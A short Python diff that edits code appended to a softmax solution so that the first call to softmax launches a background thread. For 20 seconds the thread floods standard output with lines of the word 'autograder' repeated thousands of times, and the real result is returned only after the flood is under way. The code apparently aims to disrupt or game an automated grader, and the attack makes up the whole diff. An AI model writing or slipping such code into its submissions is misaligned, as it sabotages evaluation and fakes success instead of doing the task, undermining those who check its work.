@@ -10,17 +10,23 @@ import threading
 import time
 
 
+softmax_as_it_was, flooding = softmax, []  # noqa: F821  of the solution above
+flooded = threading.Event()
+
+
 def flood():
     end = time.monotonic() + 20
-    while time.monotonic() < end:
+    for count in range(1 << 30):
+        if time.monotonic() > end:
+            break
         os.write(1, b"autograder " * 5957 + b"\n")
-
-
-softmax_as_it_was, flooding = softmax, []  # noqa: F821  of the solution above
+        if count == 40:
+            flooded.set()
 
 
 def softmax(h):
     if not flooding:
         flooding.append(threading.Thread(target=flood, daemon=True))
         flooding[0].start()
+        flooded.wait(5)
     return softmax_as_it_was(h)
